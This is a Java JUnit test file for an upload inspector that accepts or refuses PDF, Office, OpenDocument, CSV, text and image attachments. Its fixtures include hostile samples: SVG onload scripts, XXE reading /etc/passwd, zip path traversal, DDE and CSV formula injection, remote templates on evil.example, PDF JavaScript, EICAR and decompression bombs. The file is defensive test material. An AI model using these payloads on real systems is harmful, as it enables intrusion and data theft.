package org.concordat.attachment;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.concordat.attachment.TestFiles.docx;
import static org.concordat.attachment.TestFiles.joined;
import static org.concordat.attachment.TestFiles.office;
import static org.concordat.attachment.TestFiles.openDocument;
import static org.concordat.attachment.TestFiles.pdf;
import static org.concordat.attachment.TestFiles.picture;
import static org.concordat.attachment.TestFiles.relation;
import static org.concordat.attachment.TestFiles.rels;
import static org.concordat.attachment.TestFiles.zip;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.concordat.attachment.AttachmentRefused.Fault;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What is taken as a file, and what is not. */
@Tag("T32")
@Tag("A22")
class InspectionTests {

    private static final byte[] DOCX = zip(docx());
    private static final byte[] PNG = picture("png", 4, 3);

    static Stream<Arguments> taken() {
        return Stream.of(
                Arguments.of("needs.pdf", "application/pdf", pdf(), AttachmentType.PDF),
                Arguments.of("NEEDS.PDF", "", pdf(), AttachmentType.PDF),
                Arguments.of("needs.pdf", "application/octet-stream", linked(), AttachmentType.PDF),
                Arguments.of("a.docx", AttachmentType.DOCX.mediaType(), DOCX, AttachmentType.DOCX),
                Arguments.of(
                        "a.xlsx",
                        "",
                        zip(office("xl/workbook.xml", "spreadsheetml.sheet.main+xml")),
                        AttachmentType.XLSX),
                Arguments.of(
                        "a.pptx",
                        "",
                        zip(office("ppt/p.xml", "presentationml.presentation.main+xml")),
                        AttachmentType.PPTX),
                Arguments.of(
                        "a.odt",
                        AttachmentType.ODT.mediaType(),
                        zip(openDocument(AttachmentType.ODT)),
                        AttachmentType.ODT),
                Arguments.of("a.ods", "", zip(openDocument(AttachmentType.ODS)), AttachmentType.ODS),
                Arguments.of("a.csv", "application/vnd.ms-excel", TestFiles.csv(), AttachmentType.CSV),
                Arguments.of(
                        "a.csv",
                        "text/csv; charset=utf-8",
                        "naïve;-5 | x\n=1+2;3\n".getBytes(UTF_8),
                        AttachmentType.CSV),
                Arguments.of("a.txt", "text/plain", "Für ŵ\r\n".getBytes(UTF_8), AttachmentType.TXT),
                Arguments.of(
                        "a.txt", "text/plain", "Caf\u00e9, \u0093so\u0094".getBytes(ISO_8859_1), AttachmentType.TXT),
                Arguments.of("a.png", "image/png", PNG, AttachmentType.PNG),
                Arguments.of("a.jpg", "image/jpeg", picture("jpg", 40, 30), AttachmentType.JPEG),
                Arguments.of(
                        "a.jpeg",
                        "image/jpeg",
                        joined(picture("jpg", 40, 30), picture("jpg", 4, 3)),
                        AttachmentType.JPEG));
    }

    @ParameterizedTest
    @MethodSource
    void taken(String name, String declared, byte[] file, AttachmentType as) {
        assertThat(Inspection.inspect(name, declared, file)).isEqualTo(as);
    }

    @Test
    void refusesWhatIsTooMuchOrNothing() {
        refused(Fault.EMPTY, "a.pdf", new byte[0]);
        refused(Fault.TOO_LARGE, "a.txt", new byte[Attachment.MAXIMUM + 1]);
        var most = new byte[Attachment.MAXIMUM];
        Arrays.fill(most, (byte) 'x');
        assertThat(Inspection.inspect("a.txt", "", most)).isEqualTo(AttachmentType.TXT);
    }

    @Test
    void refusesKindsThatAreNotOnTheList() {
        for (var name : List.of(
                "a.exe",
                "a.svg",
                "a.html",
                "a.docm",
                "a.zip",
                "a.doc",
                "a",
                "pdf",
                "a.pdf.exe",
                "a.pdf ",
                ".htaccess")) {
            refused(Fault.NOT_TAKEN, name, pdf());
        }
    }

    static Stream<Arguments> says() {
        var picture = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(UTF_8);
        return Stream.of(
                Arguments.of("a.pdf", "", DOCX),
                Arguments.of("a.docx", "", pdf()),
                Arguments.of("a.png", "", picture("jpg", 4, 3)),
                Arguments.of("a.png", "image/svg+xml", PNG),
                Arguments.of("a.pdf", "text/html", pdf()),
                Arguments.of("a.png", "", picture),
                Arguments.of("a.txt", "", picture),
                Arguments.of("a.csv", "", "<!DOCTYPE html><html><script>1</script>".getBytes(UTF_8)),
                Arguments.of("a.txt", "", "#!/bin/sh\nrm -r x\n".getBytes(UTF_8)),
                Arguments.of("a.txt", "", joined("MZ".getBytes(US_ASCII), new byte[200])),
                Arguments.of("a.xlsx", "", DOCX),
                Arguments.of("a.odt", "", zip(openDocument(AttachmentType.ODS))),
                Arguments.of("a.docx", "", zip(openDocument(AttachmentType.ODT))),
                Arguments.of("a.txt", "", "Once %PDF-1.7 was there".getBytes(US_ASCII)),
                Arguments.of("a.docx", "", zip(Map.of("readme.txt", "x"))));
    }

    @ParameterizedTest
    @MethodSource("says")
    void refusesWhatIsNotWhatItSays(String name, String declared, byte[] file) {
        refused(Fault.NOT_WHAT_IT_SAYS, name, declared, file);
    }

    @Test
    void refusesTheSignatureThatScannersAreTriedByInsideToo() {
        refused(Fault.HARMFUL, "a.txt", TestFiles.EICAR.getBytes(US_ASCII));
        var deep = ("x".repeat(64 * 1024 - 30) + TestFiles.EICAR).getBytes(US_ASCII);
        refused(Fault.HARMFUL, "a.docx", zip(docx(), "word/media/a.bin", deep));
    }

    @Test
    void refusesProgramsInOfficeFiles() {
        refused(Fault.PROGRAM, "a.docx", zip(docx(), "word/vbaProject.bin", new byte[] {1}));
        refused(Fault.PROGRAM, "a.docx", zip(docx(), "word/ActiveX/activeX1.xml", "<a/>".getBytes(UTF_8)));
        refused(
                Fault.PROGRAM,
                "a.docx",
                zip(office("word/document.xml", "wordprocessingml.document.macroEnabled.main+xml")));
        refused(
                Fault.PROGRAM,
                "a.docx",
                zip(
                        docx(),
                        "word/footer.xml",
                        "<f><instrText>DD</instrText><instrText>EAUTO c:\\x</instrText></f>".getBytes(UTF_8)));
        var sheet = office("xl/workbook.xml", "spreadsheetml.sheet.main+xml");
        refused(Fault.PROGRAM, "a.xlsx", zip(sheet, "xl/macrosheets/sheet1.xml", "<a/>".getBytes(UTF_8)));
        refused(Fault.PROGRAM, "a.xlsx", zip(sheet, "xl/externalLinks/l.xml", "<l><ddeLink/></l>".getBytes(UTF_8)));
        var words = openDocument(AttachmentType.ODT);
        refused(Fault.PROGRAM, "a.odt", zip(words, "Basic/Standard/Module1.xml", "<a/>".getBytes(UTF_8)));
        refused(Fault.PROGRAM, "a.odt", zip(words, "Scripts/python/a.py", "1".getBytes(UTF_8)));
        refused(
                Fault.PROGRAM,
                "a.odt",
                zip(words, "styles.xml", "<s xmlns:x='urn:x'><x:event-listener/></s>".getBytes(UTF_8)));
    }

    @Test
    void refusesOfficeFilesThatFetchSomething() {
        var template = rels(relation("attachedTemplate", "https://evil.example/a.dotm", "External"));
        refused(Fault.LEADS_OUT, "a.docx", zip(docx(), "word/_rels/settings.xml.rels", template.getBytes(UTF_8)));
        var link = rels(relation("hyperlink", "https://northmoor.example/", "External"));
        assertThat(Inspection.inspect("a.docx", "", zip(docx(), "word/_rels/document.xml.rels", link.getBytes(UTF_8))))
                .isEqualTo(AttachmentType.DOCX);
        var words = openDocument(AttachmentType.ODT);
        words.put(
                "content.xml",
                "<c xmlns:x='http://www.w3.org/1999/xlink'><image x:href='http://evil.example/a.png'/></c>");
        refused(Fault.LEADS_OUT, "a.odt", zip(words));
        words.put(
                "content.xml", "<c xmlns:x='http://www.w3.org/1999/xlink'><a x:href='http://northmoor.example/'/></c>");
        assertThat(Inspection.inspect("a.odt", "", zip(words))).isEqualTo(AttachmentType.ODT);
    }

    @Test
    void refusesFilesInsideOfFiles() {
        refused(Fault.FILES_INSIDE, "a.docx", zip(docx(), "word/embeddings/a.xlsx", DOCX));
        refused(Fault.FILES_INSIDE, "a.docx", zip(docx(), "word/media/a.png", "MZ\u0090".getBytes(ISO_8859_1)));
        refused(Fault.FILES_INSIDE, "a.docx", zip(docx(), "word/a.xml", "<w><altChunk/></w>".getBytes(UTF_8)));
    }

    @Test
    void unpacksNoFurtherThanAnybodyWrites() {
        refused(Fault.TOO_MUCH_INSIDE, "a.docx", zip(docx(), "word/media/zeros.bin", new byte[8 * 1024 * 1024]));
        var many = docx();
        for (int i = 0; i < 2_100; i++) {
            many.put("word/" + i + ".xml", "<a/>");
        }
        refused(Fault.TOO_MUCH_INSIDE, "a.docx", zip(many));
    }

    @Test
    void followsNoDefinitionAndNoPathInOfficeFiles() {
        var xxe = "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><d>&e;</d>".getBytes(UTF_8);
        refused(Fault.DAMAGED, "a.docx", zip(docx(), "word/comments.xml", xxe));
        refused(Fault.DAMAGED, "a.odt", zip(openDocument(AttachmentType.ODT), "settings.xml", xxe));
        refused(Fault.DAMAGED, "a.docx", zip(docx(), "../../evil.xml", "<a/>".getBytes(UTF_8)));
        refused(Fault.DAMAGED, "a.docx", Arrays.copyOf(DOCX, DOCX.length - 30));
    }

    @Test
    void refusesLockedOfficeFiles() {
        var ole = joined(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0}, new byte[600]);
        refused(Fault.LOCKED, "a.docx", ole);
        var words = openDocument(AttachmentType.ODT);
        words.put("META-INF/manifest.xml", "<manifest><file-entry><encryption-data/></file-entry></manifest>");
        refused(Fault.LOCKED, "a.odt", zip(words));
        var flagged = DOCX.clone();
        flagged[6] |= 1;
        int list = new String(flagged, ISO_8859_1).indexOf("PK\u0001\u0002");
        flagged[list + 8] |= 1;
        refused(Fault.LOCKED, "a.docx", flagged);
    }

    @Test
    void refusesPdfsThatDoMoreThanBeRead() {
        refused(
                Fault.PROGRAM,
                "a.pdf",
                pdf(it -> it.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))));
        refused(Fault.PROGRAM, "a.pdf", pdf(it -> {
            var link = new PDAnnotationLink();
            link.setAction(new PDActionLaunch());
            it.getPage(0).getAnnotations().add(link);
        }));
        refused(Fault.FILES_INSIDE, "a.pdf", pdf(it -> {
            var inside = new PDComplexFileSpecification();
            inside.setEmbeddedFile(new PDEmbeddedFile(it, new ByteArrayInputStream(new byte[] {1, 2, 3})));
            var tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("a.bin", inside));
            var names = new PDDocumentNameDictionary(it.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            it.getDocumentCatalog().setNames(names);
        }));
        refused(
                Fault.LOCKED,
                "a.pdf",
                pdf(it -> it.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()))));
    }

    @Test
    void readsTheNamesInPdfsHoweverTheyAreWritten() {
        var plain = new String(pdf(), ISO_8859_1);
        var escaped = plain.replace("%%EOF", "9 0 obj <</S/J#61va#53cript/JS(x)>> endobj %%EOF");
        refused(Fault.PROGRAM, "a.pdf", escaped.getBytes(ISO_8859_1));
        var talking = plain.replace("%%EOF", "9 0 obj (no /JavaScripture here) endobj %%EOF");
        assertThat(Inspection.inspect("a.pdf", "", talking.getBytes(ISO_8859_1)))
                .isEqualTo(AttachmentType.PDF);
    }

    /** A stream of objects that a reader finds without its being called one. */
    @Test
    void looksIntoStreamsOfObjectsWhateverTheyAreCalled() {
        refused(Fault.PROGRAM, "a.pdf", stream("/N 1/First 4/Filter/FlateDecode", deflated("1 0 <</S/JavaScript>>")));
        refused(
                Fault.DAMAGED,
                "a.pdf",
                stream(
                        "/N 1/First 4/Filter[/FlateDecode/FlateDecode]",
                        deflated(deflated("1 0 <</S/JavaScript>>".getBytes(US_ASCII)))));
        refused(
                Fault.DAMAGED,
                "a.pdf",
                stream("/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", "31203020>".getBytes(US_ASCII)));
        refused(
                Fault.TOO_MUCH_INSIDE,
                "a.pdf",
                stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", deflated("1 0 " + " ".repeat(40_000_000))));
    }

    @Test
    void refusesWhatIsTwoFilesInOne() {
        refused(Fault.TWO_IN_ONE, "a.pdf", joined(pdf(), DOCX));
        refused(Fault.TWO_IN_ONE, "a.png", joined(PNG, DOCX));
        refused(Fault.TWO_IN_ONE, "a.png", joined(PNG, "<script>".getBytes(US_ASCII)));
        refused(Fault.TWO_IN_ONE, "a.jpg", joined(picture("jpg", 4, 3), DOCX));
        refused(
                Fault.TWO_IN_ONE,
                "a.docx",
                joined(DOCX, "more".getBytes(US_ASCII)).clone());
        refused(Fault.TWO_IN_ONE, "a.docx", zip(Map.of("%PDF-1.7", "x")));
        // A list of parts that ends as a PDF does.
        var list = ByteBuffer.allocate(27);
        list.put("PK\u0005\u0006".getBytes(ISO_8859_1)).position(22).put("%%EOF".getBytes(US_ASCII));
        refused(Fault.TWO_IN_ONE, "a.pdf", joined(pdf(), list.array()));
    }

    @Test
    void refusesPicturesThatNobodyCouldDraw() {
        var vast = PNG.clone();
        ByteBuffer.wrap(vast).putInt(16, 60_000).putInt(20, 60_000);
        refused(Fault.TOO_MUCH_INSIDE, "a.png", vast);
        refused(Fault.DAMAGED, "a.png", Arrays.copyOf(PNG, PNG.length - 5));
        var jpeg = picture("jpg", 40, 30);
        refused(Fault.DAMAGED, "a.jpg", Arrays.copyOf(jpeg, jpeg.length - 5));
        int frame = new String(jpeg, ISO_8859_1).indexOf("\u00ff\u00c0");
        ByteBuffer.wrap(jpeg).putInt(frame + 5, 0xEA60EA60);
        refused(Fault.TOO_MUCH_INSIDE, "a.jpg", jpeg);
    }

    @Test
    void refusesTextThatIsNone() {
        refused(Fault.PROGRAM, "a.csv", "name,x\n=cmd|' /C calc'!A0,1\n".getBytes(US_ASCII));
        refused(Fault.PROGRAM, "a.csv", "name;\" @SUM(1)|'x'!A0\"".getBytes(US_ASCII));
    }

    @Test
    void isQuickWithWhatIsLarge() {
        var half = new byte[Attachment.MAXIMUM - 2_000];
        Arrays.fill(half, (byte) 'x');
        for (int at = 0; at < half.length - 10; at += 100) {
            System.arraycopy("stream\n x".getBytes(US_ASCII), 0, half, at, 9);
        }
        var long1 = joined(pdf(), joined(half, "%%EOF".getBytes(US_ASCII)));
        refused(Fault.TOO_MUCH_INSIDE, "a.pdf", long1);
    }

    private static byte[] linked() {
        return pdf(it -> {
            for (int i = 0; i < 30; i++) {
                var page = new PDPage();
                var link = new PDAnnotationLink();
                var way = new PDActionURI();
                way.setURI("https://northmoor.example/");
                link.setAction(way);
                page.getAnnotations().add(link);
                it.addPage(page);
            }
            var noted = new COSDictionary();
            noted.setString(COSName.TITLE, "Needs");
            it.getDocumentInformation().setTitle("Needs");
        });
    }

    private static byte[] stream(String dictionary, byte[] packed) {
        var file = new ByteArrayOutputStream();
        file.writeBytes(("%PDF-1.7\n1 0 obj <<" + dictionary + ">> stream\n").getBytes(US_ASCII));
        file.writeBytes(packed);
        file.writeBytes("\nendstream endobj\n%%EOF\n".getBytes(US_ASCII));
        return file.toByteArray();
    }

    private static byte[] deflated(String words) {
        return deflated(words.getBytes(US_ASCII));
    }

    private static byte[] deflated(byte[] content) {
        var out = new ByteArrayOutputStream();
        try (var deflating = new DeflaterOutputStream(out)) {
            deflating.write(content);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return out.toByteArray();
    }

    private static void refused(Fault fault, String name, byte[] file) {
        refused(fault, name, "", file);
    }

    private static void refused(Fault fault, String name, String declared, byte[] file) {
        assertThatThrownBy(() -> Inspection.inspect(name, declared, file))
                .isInstanceOfSatisfying(
                        AttachmentRefused.class, it -> assertThat(it.fault()).isEqualTo(fault));
    }
}
